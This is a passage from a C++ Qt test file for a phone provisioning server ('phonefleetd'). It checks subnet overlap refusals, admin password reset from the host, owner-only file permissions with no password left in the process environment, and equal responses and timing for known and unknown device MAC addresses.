    const QString dataDir = m_backend.dataDir();
    const auto options = [&](const QString& trusted) {
        return QStringList {QStringLiteral("--database"),      db,
                            QStringLiteral("--data-dir"),      dataDir,
                            QStringLiteral("--admin-user"),    QStringLiteral("admin"),
                            QStringLiteral("--trusted-proxy"), trusted};
    };
    QString error;
    QVERIFY2(server.start(options(QStringLiteral("127.0.0.128/28")), adminPassword, &error), qPrintable(error));
    ApiClient root(server.http, host(1));
    QCOMPARE(root.login(QStringLiteral("admin"), adminPassword).status, 200);
    const qint64 apart = regionNamed(root, QStringLiteral("Apart"), QStringLiteral("127.0.0.0/25, 127.0.1.0/24"));
    const QByteArray apartPath = ApiClient::path("/api/v1/regions/{id}", apart);
    const ApiClient::Reply widened =
        root.put(apartPath,
                 {{QStringLiteral("provisioningSubnets"), QStringLiteral("127.0.0.0/24")},
                  {QStringLiteral("revision"), root.get(apartPath).json.value(QStringLiteral("revision"))}});
    QCOMPARE(widened.status, 409);
    QVERIFY2(widened.body.contains("region 'Apart'"), widened.text());
    QCOMPARE(root.get(apartPath).json.value(QStringLiteral("provisioningSubnets")).toString(),
             QStringLiteral("127.0.0.0/25, 127.0.1.0/24"));
    const ApiClient::Reply inside = root.post("/api/v1/regions",
                                              {{QStringLiteral("name"), QStringLiteral("Beside")},
                                               {QStringLiteral("provisioningSubnets"), QStringLiteral("127.0.0.130")}});
    QCOMPARE(inside.status, 409);
    QVERIFY2(inside.body.contains("127.0.0.128/28") && inside.body.contains("region 'Beside'"), inside.text());
    const ApiClient::Reply settings = root.get("/api/v1/settings");
    const ApiClient::Reply wide =
        root.put("/api/v1/settings",
                 {{QStringLiteral("settings"),
                   QJsonObject {{QStringLiteral("system_provisioning_subnets"), QStringLiteral("127.0.0.0/8")}}},
                  {QStringLiteral("revision"), settings.json.value(QStringLiteral("revision"))}});
    QCOMPARE(wide.status, 409);
    QVERIFY2(wide.body.contains("system_provisioning_subnets"), wide.text());
    auto store = openStore(db);
    QVERIFY(store->regions().count().value() == 1);
    QCOMPARE(store->settings().value(QStringLiteral("system_provisioning_subnets")).value(), QString());
    server.kill();

    // The overlap made where this node could not refuse it (another node, the database): the
    // node does not start, and says why.
    Region beside;
    beside.name = QStringLiteral("Beside");
    beside.provisioningSubnets = QStringLiteral("127.0.0.136/29");
    QVERIFY(store->regions().insert(beside));
    ServerProcess refused;
    QVERIFY(!refused.start(options(QStringLiteral("127.0.0.128/28")), adminPassword, &error));
    // (A node already running when that happens says so in its activity log: below.)
    QVERIFY2(error.contains(QLatin1String("--trusted-proxy 127.0.0.128/28 shares addresses with region 'Beside'"))
                 && error.contains(QLatin1String("127.0.0.136/29")),
             qPrintable(error));
    // The balancer's own address inside a phones' subnet is allowed, with a warning.
    ServerProcess single;
    QVERIFY2(single.start(options(QStringLiteral("127.0.0.137")), adminPassword, &error), qPrintable(error));
    QVERIFY2(single.saysOnErrors("--trusted-proxy 127.0.0.137 is in region 'Beside'"), "no warning");
    single.kill();

    // A running node whose subnets another node changes under it: an error in its activity log.
    store->regions().remove(store->regions().findOne(QStringLiteral("name"), QStringLiteral("Beside"))->id,
                            store->regions().findOne(QStringLiteral("name"), QStringLiteral("Beside"))->revision);
    ServerProcess running;
    QVERIFY2(running.start(options(QStringLiteral("127.0.0.128/28")), adminPassword, &error), qPrintable(error));
    QVERIFY(store->regions().insert(beside));
    QVERIFY2(running.saysOnErrors("shares addresses with region 'Beside'"), "no error while running");
    ApiClient again(running.http, host(1));
    QCOMPARE(again.login(QStringLiteral("admin"), adminPassword).status, 200);
    ApiClient::Reply logs;
    waitFor(
        [&] {
            logs = again.get("/api/v1/logs?kind=activity&last=50");
            return logs.body.contains("this node would not start so");
        },
        10000);
    QVERIFY2(logs.body.contains("this node would not start so"), logs.text());
}

// An administrator can always get in from the server host.
void TestPhoneTrust::resetAdminOnTheServerHost()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    const QString dataDir = m_backend.dataDir();
    server.kill();
    QTemporaryFile passwordFile;
    QVERIFY(passwordFile.open());
    passwordFile.write("a-brand-new-password-42\n");
    passwordFile.flush();
    const ProcessRun weak = runProgram(QStringLiteral("phonefleetd"),
                                       {QStringLiteral("--database"), db, QStringLiteral("--data-dir"), dataDir,
                                        QStringLiteral("--reset-admin"), QStringLiteral("admin")});
    QCOMPARE(weak.exitCode, 1); // no password given
    const ProcessRun reset = runProgram(QStringLiteral("phonefleetd"),
                                        {QStringLiteral("--database"), db, QStringLiteral("--data-dir"), dataDir,
                                         QStringLiteral("--reset-admin"), QStringLiteral("admin"),
                                         QStringLiteral("--admin-password-file"), passwordFile.fileName()});
    QVERIFY2(reset.exitCode == 0, reset.err.constData());
    ServerProcess again;
    startServer(again, db);
    ApiClient api(again.http, host(80));
    QCOMPARE(api.login(QStringLiteral("admin"), adminPassword).status, 401);
    QCOMPARE(api.login(QStringLiteral("admin"), QStringLiteral("a-brand-new-password-42")).status, 200);
    const ApiClient::Reply logs = api.get("/api/v1/logs?kind=web-admin&last=50");
    QVERIFY2(logs.body.contains("--reset-admin"), logs.text());
}

// Finding 6: pf.db, its WAL and generated files were world-readable; the first administrator's
// password stayed in /proc/PID/environ.
void TestPhoneTrust::dataIsOwnerOnlyAndPasswordLeavesNoTrace()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    const QString dataDir = m_backend.dataDir();
    auto store = openStore(db);
    const Device d = approvedDevice(*store, QStringLiteral("00908F5E0001"), QStringLiteral("Oslo"), QString());
    QCOMPARE(fetch(server.http, "/configfiles/00908F5E0001.cfg", host(90), basic(d)).status, 200);
    const auto mode = [](const QString& path) {
        return QFileInfo(path).permissions()
            & (QFileDevice::ReadGroup | QFileDevice::WriteGroup | QFileDevice::ExeGroup | QFileDevice::ReadOther
               | QFileDevice::WriteOther | QFileDevice::ExeOther);
    };
    QVERIFY(QFileInfo::exists(dataDir));
    QCOMPARE(mode(dataDir), QFileDevice::Permissions());
    const QString generated = dataDir + QStringLiteral("/provisioning/00908F5E0001.cfg");
    QVERIFY(QFileInfo::exists(generated));
    QCOMPARE(mode(generated), QFileDevice::Permissions());
    QCOMPARE(mode(dataDir + QStringLiteral("/provisioning")), QFileDevice::Permissions());
    if (db.startsWith(QLatin1String("sqlite:"))) {
        const QString file = db.mid(7);
        for (const QString& path : {file, file + QStringLiteral("-wal"), file + QStringLiteral("-shm")}) {
            QVERIFY2(QFileInfo::exists(path), qPrintable(path));
            QVERIFY2(mode(path) == QFileDevice::Permissions(), qPrintable(path));
        }
    }
#ifdef Q_OS_LINUX
    QFile environ(QStringLiteral("/proc/%1/environ").arg(server.pid()));
    QVERIFY(environ.open(QIODevice::ReadOnly));
    const QByteArray env = environ.readAll();
    QVERIFY(!env.isEmpty());
    QVERIFY(!env.contains(adminPassword.toUtf8()));
#endif
    // --admin-password-file seeds the first administrator, without the environment.
    QTemporaryFile passwordFile;
    QVERIFY(passwordFile.open());
    passwordFile.write("password-from-a-file-123\n");
    passwordFile.flush();
    ServerProcess fromFile;
    QString error;
    QVERIFY2(fromFile.start({QStringLiteral("--database"), newDatabase(), QStringLiteral("--data-dir"),
                             m_backend.dataDir(), QStringLiteral("--admin-user"), QStringLiteral("boss"),
                             QStringLiteral("--admin-password-file"), passwordFile.fileName()},
                            QString(), &error),
             qPrintable(error));
    ApiClient boss(fromFile.http, host(91));
    QCOMPARE(boss.login(QStringLiteral("boss"), QStringLiteral("password-from-a-file-123")).status, 200);
}

// Finding 6: an existing MAC's refusal came about 75 µs sooner than an unknown one's.
void TestPhoneTrust::missesLookAlike()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    auto store = openStore(db);
    approvedDevice(*store, QStringLiteral("00908F5F0001"), QStringLiteral("Rome"), QString());
    const QByteArray known = "/configfiles/00908F5F0001.cfg";
    const QByteArray unknown = "/configfiles/00908F5F0002.cfg";
    // Same answer but for the Digest nonce.
    const RawResponse a = fetch(server.http, known, host(100));
    const RawResponse b = fetch(server.http, unknown, host(101));
    QCOMPARE(a.status, 401);
    QCOMPARE(b.status, a.status);
    QCOMPARE(b.body, a.body);
    QCOMPARE(b.headers.size(), a.headers.size());
    // The same time, beyond noise: interleaved, each from an address of its own (no 429), up to
    // three rounds (a loaded machine adds noise, not a steady difference).
    double difference = 0;
    double median = 0;
    int address = 200;
    for (int round = 0; round < 3; ++round) {
        QVector<qint64> times[2];
        for (int i = 0; i < 300; ++i) {
            for (int which = 0; which < 2; ++which) {
                QElapsedTimer t;
                t.start();
                const RawResponse r = fetch(server.http, which == 0 ? known : unknown, host(address++));
                times[which] << t.nsecsElapsed();
                QVERIFY2(r.status == 401,
                         qPrintable(QStringLiteral("fetch %1 of round %2: status %3, %4")
                                        .arg(i)
                                        .arg(round)
                                        .arg(r.status)
                                        .arg(QString::fromUtf8(r.error))));
            }
        }
        for (auto& v : times) {
            std::sort(v.begin(), v.end());
        }
        median = times[0][times[0].size() / 2] / 1000.0;
        difference = std::abs(times[0][times[0].size() / 2] - times[1][times[1].size() / 2]) / 1000.0;
        if (difference < qMax(25.0, median * 0.1)) {
            break;
        }
    }
    QVERIFY2(difference < qMax(25.0, median * 0.1),
             qPrintable(QStringLiteral("medians differ by %1 µs (median %2 µs)").arg(difference).arg(median)));
}

QTEST_GUILESS_MAIN(TestPhoneTrust)
#include "tst_phonetrust.moc"
